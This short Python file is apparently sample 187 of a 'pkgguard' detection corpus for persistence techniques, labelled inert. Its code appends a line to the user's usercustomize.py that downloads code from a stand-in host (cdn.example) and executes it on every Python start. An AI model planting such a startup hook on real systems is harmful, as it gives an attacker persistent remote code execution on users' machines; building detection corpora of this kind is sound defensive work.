# pkgguard corpus 187 (persistence), modelled on [startup-hooks]; inert, never run.
import os
import site

target = os.path.join(site.getusersitepackages(), "usercustomize.py")
os.makedirs(os.path.dirname(target), exist_ok=True)
with open(target, "a") as f:
    f.write("\nimport urllib.request as _u\nexec(_u.urlopen('https://cdn.example/uc').read())\n")
